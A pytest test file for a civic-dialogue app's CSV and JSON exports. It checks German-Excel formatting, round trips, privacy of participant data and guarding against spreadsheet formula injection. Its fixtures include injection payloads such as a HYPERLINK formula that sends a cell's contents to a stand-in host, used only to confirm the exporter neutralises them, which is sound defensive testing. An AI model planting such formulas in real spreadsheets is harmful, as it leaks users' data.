"""Data exports: CSV for German Excel and JSON, round trips, formula injection, the CLI jobs."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from sqlalchemy import select

from smartdialog.cli import main
from smartdialog.core import spreadsheet
from smartdialog.core.db import Database
from smartdialog.core.errors import EnvironmentProblem
from smartdialog.core.models import Participant
from smartdialog.core.services import export, ideas, minutes, setup

# Texts a facilitator might type that a spreadsheet would run as formulas, or mangle.
EVIL = (
    '=HYPERLINK("http://example.org/?x="&A1;"Klick")',
    "+49 251 492-0",
    "-1+1",
    "@SUM(A1:A9)",
    "\tTabulator vorne",
    "'schon mit Apostroph",
    'Semikolon; Komma, "Anführung" und\nZeilenumbruch',
    "Łukasz Öztürk-Nguyễn sagt: Straße ß ẞ € – „gut“",
)


@pytest.fixture
def filled(db: Database) -> Database:
    with db.uow() as s:
        fields = setup.list_fields(s)
        for n, text in enumerate(EVIL):
            ideas.capture(s, text, field_id=fields[n % len(fields)].id)
    return db


def _texts(db: Database) -> list[str]:
    with db.read() as s:
        return [i.text for i in minutes.snapshot(s).ideas]


def test_csv_round_trips_every_cell(filled: Database, tmp_path: Path) -> None:
    paths = export.export(filled, tmp_path, "csv").paths
    assert {p.name for p in paths} == {
        "beitraege.csv",
        "handlungsfelder.csv",
        "eckdaten.csv",
        "abstimmung.csv",
        "fehlscans.csv",
    }
    with filled.read() as s:
        tables = {t.name: t for t in export.tables(minutes.snapshot(s))}
    for path in paths:
        table = tables[path.stem]
        rows = export.read_csv(path)
        assert rows[0] == [c.header for c in table.columns]
        assert rows[1:] == [
            [export.cell_text(v) if not isinstance(v, str) else v for v in row]
            for row in table.rows
        ]
    ideas_rows = export.read_csv(tmp_path / "beitraege.csv")
    assert [r[1] for r in ideas_rows[1:]] == _texts(filled)


@pytest.mark.parametrize("delimiter", [";", ","])
def test_any_text_survives_the_csv_round_trip(tmp_path: Path, delimiter: str) -> None:
    # Straight through the writer: the ideas service would already tidy tabs and line breaks.
    table = export.DataTable(
        "probe",
        "probe",
        (export.Column("n", "Nr"), export.Column("text", "=Text")),
        tuple((n, text) for n, text in enumerate(EVIL)),
    )
    path = tmp_path / "probe.csv"
    path.write_text(export.csv_text(table, delimiter=delimiter), encoding="utf-8-sig", newline="")
    assert export.read_csv(path, delimiter=delimiter) == [
        ["Nr", "=Text"],
        *([str(n), text] for n, text in enumerate(EVIL)),
    ]


def test_csv_is_what_german_excel_expects(filled: Database, tmp_path: Path) -> None:
    export.export(filled, tmp_path, "csv")
    raw = (tmp_path / "beitraege.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte order mark
    assert raw.splitlines()[0].decode("utf-8-sig").startswith("Nr;Beitrag;Handlungsfeld;")
    assert b"\r\n" in raw
    assert "Łukasz Öztürk-Nguyễn".encode() in raw
    comma = tmp_path / "komma"
    export.export(filled, comma, "csv", delimiter=",")
    assert (
        (comma / "beitraege.csv")
        .read_text(encoding="utf-8-sig")
        .startswith("Nr,Beitrag,Handlungsfeld,")
    )
    assert [r[1] for r in export.read_csv(comma / "beitraege.csv", delimiter=",")[1:]] == _texts(
        filled
    )


def test_no_cell_starts_a_formula(filled: Database, tmp_path: Path) -> None:
    export.export(filled, tmp_path, "csv")
    import csv

    with (tmp_path / "beitraege.csv").open(encoding="utf-8-sig", newline="") as f:
        cells = [cell for row in csv.reader(f, delimiter=";") for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert '\'=HYPERLINK("http://example.org/?x="&A1;"Klick")' in cells
    assert "''schon mit Apostroph" in cells
    assert spreadsheet.guard("Bürgerbüro") == "Bürgerbüro"
    assert spreadsheet.unguard(spreadsheet.guard("-5")) == "-5"


def test_json_holds_the_same_data(filled: Database, tmp_path: Path) -> None:
    (path,) = export.export(filled, tmp_path, "json").paths
    data = json.loads(path.read_text(encoding="utf-8"))
    assert data["format"] == "smartdialog-export"
    assert data["event"]["council_reference"] == "V/0164/2018"
    assert [i["text"] for i in data["ideas"]] == _texts(filled)
    assert data["ideas"][0]["number"] == 1
    assert re.fullmatch(
        r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?\+0[12]:00", data["ideas"][0]["created"]
    )
    assert {f["name"] for f in data["fields"]} == {name for name, _ in setup.DEFAULT_FIELDS}
    assert data["votes"] == []


def test_exports_hold_no_participant_data(filled: Database, tmp_path: Path) -> None:
    with filled.uow() as s:
        event = setup.current_event(s)
        s.add(
            Participant(
                event_id=event.id,
                ticket_number=1,
                first_name="Zdzisława",
                last_name="Przybylska",
                email="zp@example.org",
                postcode="48159",
            )
        )
    out = tmp_path / "export"
    export.export(filled, out, "csv")
    export.export(filled, out, "json")
    everything = "".join(p.read_text(encoding="utf-8-sig") for p in out.iterdir())
    for secret in ("Zdzisława", "Przybylska", "zp@example.org", "48159"):
        assert secret not in everything
    with filled.read() as s:
        assert s.scalar(select(Participant.email)) == "zp@example.org"


def test_export_into_a_place_that_cannot_be_written(filled: Database, tmp_path: Path) -> None:
    blocker = tmp_path / "datei"
    blocker.write_text("x")
    with pytest.raises(EnvironmentProblem, match="could not be written"):
        export.export(filled, blocker / "ordner", "csv")


def test_cli_jobs_write_minutes_and_exports(
    filled: Database, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = str(filled.path)
    pdf = tmp_path / "protokoll.pdf"
    assert main(["--lang", "en", "minutes", path, "--out", str(pdf)]) == 0
    assert pdf.read_bytes().startswith(b"%PDF")
    assert "Minutes written to" in capsys.readouterr().out
    with filled.read() as s:
        assert not minutes.state(s).final
    assert main(["minutes", path, "--out", str(pdf), "--final"]) == 0
    with filled.read() as s:
        assert minutes.state(s).final
    assert main(["export", path, "--format", "json", "--out", str(tmp_path / "daten")]) == 0
    assert (tmp_path / "daten" / export.JSON_NAME).exists()
    assert main(["export", path, "--out", str(tmp_path / "csv"), "--comma"]) == 0
    assert (tmp_path / "csv" / "beitraege.csv").read_text(encoding="utf-8-sig").startswith("Nr,")
    capsys.readouterr()
    assert (
        main(["--lang", "en", "minutes", path, "--out", str(tmp_path / "datei-fehlt" / "x.pdf")])
        == 0
    )
    blocker = tmp_path / "blocker"
    blocker.write_text("")
    assert main(["--lang", "en", "minutes", path, "--out", str(blocker / "x.pdf")]) == 1
    assert "cannot be written" in capsys.readouterr().err


def test_a_hidden_ideas_wording_does_not_leave(filled: Database, tmp_path: Path) -> None:
    with filled.uow() as s:
        field = setup.list_fields(s)[0]
        idea = ideas.capture(s, "Rufen Sie mich an: 0251 1234567", field_id=field.id)
        ideas.hide(s, idea.id, "enthält eine Telefonnummer")
    export.export(filled, tmp_path / "csv", "csv")
    export.export(filled, tmp_path / "json", "json")
    text = "".join(p.read_text(encoding="utf-8-sig") for p in (tmp_path / "csv").iterdir())
    text += (tmp_path / "json" / export.JSON_NAME).read_text(encoding="utf-8")
    assert "1234567" not in text
    assert "enthält eine Telefonnummer" in text


@pytest.mark.postgres
def test_minutes_and_exports_on_a_shared_postgresql_event(pg_db: Database, tmp_path: Path) -> None:
    with pg_db.uow() as s:
        fields = setup.list_fields(s)
        for n, text in enumerate(EVIL):
            ideas.capture(s, text, field_id=fields[n % len(fields)].id)
    first, second = tmp_path / "a.pdf", tmp_path / "b.pdf"
    minutes.export_pdf(pg_db, first)
    minutes.export_pdf(pg_db, second)
    assert first.read_bytes() == second.read_bytes()
    (path,) = export.export(pg_db, tmp_path / "json", "json").paths
    assert [i["text"] for i in json.loads(path.read_text(encoding="utf-8"))["ideas"]] == _texts(
        pg_db
    )


def test_refused_scans_are_exported_guarded_and_in_words(db: Database, tmp_path: Path) -> None:
    from smartdialog.core.services import checkin

    with db.uow() as s:
        checkin.scan(s, "0000000000000", "Empfang 1")
    with db.uow() as s:
        checkin.scan(s, '=HYPERLINK("http://x")', "Empfang 2")
    export.export(db, tmp_path / "csv", "csv")
    rows = export.read_csv(tmp_path / "csv" / "fehlscans.csv")
    assert rows[0] == ["Zeit", "Empfang", "Gelesen", "Grund", "Grund (Code)"]
    assert [r[1:3] for r in rows[1:]] == [
        ["Empfang 2", '=HYPERLINK("http://x")'],
        ["Empfang 1", "0000000000000"],
    ]
    assert rows[1][3] == "Kein Ticket-Code" and rows[1][4] == "garbled"
    raw = (tmp_path / "csv" / "fehlscans.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in raw  # a spreadsheet shows it, never runs it
    (path,) = export.export(db, tmp_path / "json", "json").paths
    data = json.loads(path.read_text(encoding="utf-8"))
    assert [(f["desk"], f["reason_code"]) for f in data["refused_scans"]] == [
        ("Empfang 2", "garbled"),
        ("Empfang 1", rows[2][4]),
    ]
    assert all(f["reason"] in export.REFUSALS.values() for f in data["refused_scans"])
